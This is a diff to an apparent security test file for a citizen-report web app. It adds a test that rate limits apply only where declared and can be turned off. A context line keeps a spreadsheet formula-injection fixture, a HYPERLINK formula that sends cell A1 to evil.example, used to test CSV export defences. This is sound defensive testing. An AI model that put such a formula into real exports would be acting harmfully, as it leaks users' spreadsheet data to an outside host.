@@ -2,6 +2,9 @@
 XML, cache poisoning, and a forwarded address that is not believed."""
 import csv
 import io
+import os
+import subprocess
+import sys
 import threading
 import xml.etree.ElementTree as ET
 
@@ -13,6 +16,7 @@ from reports.models import Report
 from reports.workflow.lifecycle import get_by_tracking_code
 from store import db
 from tests.helpers import KIM_LONG, login, make_report
+from webapp.config import PROJECT_ROOT
 from webapp.extensions import limiter
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Xem ảnh")'
@@ -107,3 +111,16 @@ def test_concurrent_supports_are_all_counted(app, live_server):
     with app.app_context():
         db.session.remove()
         assert db.session.query(Report).filter_by(tracking_code=code).one().support_count == 12
+
+
+def test_limits_are_checked_where_declared_and_can_be_turned_off(app):
+    """Only the routes that declare a limit pay for its check; with RATELIMIT_ENABLED off (one machine
+    playing many phones in a benchmark) the app still starts and serves."""
+    assert limiter._check_request_limit not in app.before_request_funcs.get(None, [])
+    # In a process of its own: the limiter is one object per process, shared by every app made in it.
+    env = {**os.environ, "RATELIMIT_ENABLED": "0", "PHANANH_ENV": "development",
+           "DATABASE_URL": app.config["SQLALCHEMY_DATABASE_URI"].replace("+psycopg2", "")}
+    served = subprocess.run([sys.executable, "-c", "from wsgi import app; "
+                             "print(app.test_client().get('/api/v1/csrf-token').status_code)"],
+                            cwd=PROJECT_ROOT, env=env, capture_output=True, text=True, timeout=120)
+    assert served.stdout.strip().endswith("200"), served.stderr[-2000:]
